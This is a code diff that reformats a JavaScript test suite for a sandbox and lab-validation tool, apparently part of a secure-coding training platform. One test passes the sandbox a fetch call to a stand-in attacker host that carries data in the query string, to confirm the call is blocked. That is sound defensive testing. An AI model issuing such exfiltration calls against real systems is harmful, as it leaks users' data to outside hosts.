@@ -34,7 +34,11 @@ describe('sandbox', () => {
 			entry: 'f',
 			cases: [{ key: 'a', input: { args: [2, 3] } }],
 		});
-		expect(r.outcomes[0]).toEqual({ key: 'a', status: 'ran', observation: { result: { sum: 5 }, calls: {}, logs: ['sum 5'] } });
+		expect(r.outcomes[0]).toEqual({
+			key: 'a',
+			status: 'ran',
+			observation: { result: { sum: 5 }, calls: {}, logs: ['sum 5'] },
+		});
 	});
 
 	it('awaits async functions and reports what they throw', async () => {
@@ -57,19 +61,28 @@ describe('sandbox', () => {
 		});
 		expect(Date.now() - started).toBeLessThan(2000);
 		expect(r.stopped).toBe('deadline');
-		expect(r.outcomes.map((o) => (o.status === 'error' ? o.reason : o.status))).toEqual(['deadline', 'skipped']);
+		expect(r.outcomes.map((o) => (o.status === 'error' ? o.reason : o.status))).toEqual([
+			'deadline',
+			'skipped',
+		]);
 		expect(resultOf(await one('function f() { return "fine"; }'))).toBe('fine');
 	});
 
 	it('stops a loop hidden in a promise chain too', async () => {
-		const r = await one('async function f() { await null; for (;;) {} }', { limits: { deadlineMs: 300, memoryBytes: 16 * 1024 * 1024 } });
+		const r = await one('async function f() { await null; for (;;) {} }', {
+			limits: { deadlineMs: 300, memoryBytes: 16 * 1024 * 1024 },
+		});
 		expect(r.stopped).toBe('deadline');
 	});
 
 	it('stops a huge allocation at the memory cap', async () => {
-		const r = await one('function f() { return "x".repeat(1 << 26).length; }', { limits: { deadlineMs: 5000, memoryBytes: 16 * 1024 * 1024 } });
+		const r = await one('function f() { return "x".repeat(1 << 26).length; }', {
+			limits: { deadlineMs: 5000, memoryBytes: 16 * 1024 * 1024 },
+		});
 		expect(r.stopped).toBe('memory');
-		const r2 = await one('function f() { const a = new Array(5e7).fill(1); return a.length; }', { limits: { deadlineMs: 5000, memoryBytes: 16 * 1024 * 1024 } });
+		const r2 = await one('function f() { const a = new Array(5e7).fill(1); return a.length; }', {
+			limits: { deadlineMs: 5000, memoryBytes: 16 * 1024 * 1024 },
+		});
 		expect(r2.stopped).toBe('memory');
 		expect(resultOf(await one('function f() { return "x".repeat(1000).length; }'))).toBe(1000);
 	});
@@ -88,9 +101,15 @@ describe('sandbox', () => {
 
 	it('a call to fetch or localStorage fails inside the sandbox and reaches nothing outside', async () => {
 		const r = await one('function f() { fetch("https://attacker.example/?d=1"); }');
-		expect(r.outcomes[0]).toMatchObject({ status: 'ran', observation: { thrown: expect.stringContaining('fetch') } });
+		expect(r.outcomes[0]).toMatchObject({
+			status: 'ran',
+			observation: { thrown: expect.stringContaining('fetch') },
+		});
 		const r2 = await one('async function f() { return localStorage.getItem("x"); }');
-		expect(r2.outcomes[0]).toMatchObject({ status: 'ran', observation: { thrown: expect.stringContaining('localStorage') } });
+		expect(r2.outcomes[0]).toMatchObject({
+			status: 'ran',
+			observation: { thrown: expect.stringContaining('localStorage') },
+		});
 		const r3 = await one('function f() { return import("node:fs").then(() => "loaded", (e) => "refused"); }');
 		expect(resultOf(r3)).toBe('refused');
 	});
@@ -110,9 +129,17 @@ describe('sandbox', () => {
 
 	it('reports a syntax error and a missing entry function in plain words', async () => {
 		const bad = await one('function f( { return 1 }');
-		expect(bad.outcomes[0]).toMatchObject({ status: 'error', reason: 'code', message: expect.stringMatching(/^your code did not load: SyntaxError/) });
+		expect(bad.outcomes[0]).toMatchObject({
+			status: 'error',
+			reason: 'code',
+			message: expect.stringMatching(/^your code did not load: SyntaxError/),
+		});
 		const missing = await one('function g() { return 1 }');
-		expect(missing.outcomes[0]).toMatchObject({ status: 'error', reason: 'code', message: 'your code must declare a function named f' });
+		expect(missing.outcomes[0]).toMatchObject({
+			status: 'error',
+			reason: 'code',
+			message: 'your code must declare a function named f',
+		});
 	});
 
 	it('the harness builds the arguments and records tool calls', async () => {
@@ -122,13 +149,18 @@ describe('sandbox', () => {
 			entry: 'f',
 			cases: [{ key: 'a', input: {} }],
 		});
-		expect(r.outcomes[0]).toMatchObject({ status: 'ran', observation: { result: 'ok', calls: { send: [{ to: 'a@b.example' }] } } });
+		expect(r.outcomes[0]).toMatchObject({
+			status: 'ran',
+			observation: { result: 'ok', calls: { send: [{ to: 'a@b.example' }] } },
+		});
 	});
 });
 
 describe('type stripping', () => {
 	it('removes TypeScript types and keeps the code', () => {
-		const js = stripTypes('interface A { x: number }\nfunction f(a: A, b?: string): number { return a.x as number; }');
+		const js = stripTypes(
+			'interface A { x: number }\nfunction f(a: A, b?: string): number { return a.x as number; }',
+		);
 		expect(js).not.toMatch(/interface|: number|as number/);
 		expect(js).toMatch(/function f\(a, b\) { return a\.x\s*; }/);
 	});
@@ -220,8 +252,10 @@ describe('safeHtml', () => {
 describe('lab folder checks', () => {
 	const good = {
 		'lab.yaml': `id: demo\nrevision: 1\ntitle: Demo\nsummary: A demo.\nmodule: sc02-output-handling\norder: 1\nlevel: apprentice\nlanguage: javascript\nstory: A story.\ntask: A task.\nentry: f\nhints: [one]\nminutes: 5\n`,
-		'functional.yaml': 'cases:\n  - id: a\n    title: A\n    story: S\n    input: { args: [1] }\n    expect: [{ at: result, equals: 1 }]\n',
-		'attacks.yaml': 'cases:\n  - id: b\n    title: B\n    story: S\n    impact: I\n    input: { args: ["{payload}"] }\n    vars: { payload: ["x"] }\n    expect: [{ at: result, excludes: "{payload}" }]\n',
+		'functional.yaml':
+			'cases:\n  - id: a\n    title: A\n    story: S\n    input: { args: [1] }\n    expect: [{ at: result, equals: 1 }]\n',
+		'attacks.yaml':
+			'cases:\n  - id: b\n    title: B\n    story: S\n    impact: I\n    input: { args: ["{payload}"] }\n    vars: { payload: ["x"] }\n    expect: [{ at: result, excludes: "{payload}" }]\n',
 		'starter.js': 'function f(x) { return x; }',
 		'reference.js': 'function f(x) { return typeof x === "number" ? x : ""; }',
 	};
@@ -236,8 +270,12 @@ describe('lab folder checks', () => {
 			'content/labs/demo',
 			{
 				...good,
-				'lab.yaml': good['lab.yaml'].replace('module: sc02-output-handling', 'module: nope').replace('level: apprentice', 'level: guru'),
-				'attacks.yaml': good['attacks.yaml'].replace('"{payload}"', '"{missing}"').replace('    impact: I\n', ''),
+				'lab.yaml': good['lab.yaml']
+					.replace('module: sc02-output-handling', 'module: nope')
+					.replace('level: apprentice', 'level: guru'),
+				'attacks.yaml': good['attacks.yaml']
+					.replace('"{payload}"', '"{missing}"')
+					.replace('    impact: I\n', ''),
 				'reference.js': undefined,
 			},
 			known,
@@ -247,19 +285,31 @@ describe('lab folder checks', () => {
 			expect.arrayContaining([
 				expect.stringMatching(/lab\.yaml \| level \| unknown lab level "guru"/),
 				expect.stringMatching(/attacks\.yaml \| cases\[0\] \| the placeholder \{missing\} is not defined/),
-				expect.stringMatching(/attacks\.yaml \| cases\[0\]\.impact \| an attack case must say what would leak/),
+				expect.stringMatching(
+					/attacks\.yaml \| cases\[0\]\.impact \| an attack case must say what would leak/,
+				),
 				expect.stringMatching(/reference\.js \| \(file\) \| the file is missing/),
 			]),
 		);
 		expect(r.lab).toBeUndefined();
-		const moduleProblem = checkLabFolder('content/labs/demo', { ...good, 'lab.yaml': good['lab.yaml'].replace('sc02-output-handling', 'nope') }, known);
+		const moduleProblem = checkLabFolder(
+			'content/labs/demo',
+			{ ...good, 'lab.yaml': good['lab.yaml'].replace('sc02-output-handling', 'nope') },
+			known,
+		);
 		expect(moduleProblem.problems).toEqual([
-			expect.objectContaining({ field: 'module', message: 'no module has the id "nope"', fix: expect.stringContaining('content/modules/') }),
+			expect.objectContaining({
+				field: 'module',
+				message: 'no module has the id "nope"',
+				fix: expect.stringContaining('content/modules/'),
+			}),
 		]);
 	});
 	it('refuses a folder whose name differs from the id, and broken YAML', () => {
 		expect(checkLabFolder('content/labs/other', good, known).problems[0]).toMatchObject({ field: 'id' });
-		expect(checkLabFolder('content/labs/demo', { ...good, 'functional.yaml': 'cases: [' }, known).problems[0]).toMatchObject({
+		expect(
+			checkLabFolder('content/labs/demo', { ...good, 'functional.yaml': 'cases: [' }, known).problems[0],
+		).toMatchObject({
 			file: 'content/labs/demo/functional.yaml',
 			message: expect.stringMatching(/^not valid YAML/),
 		});
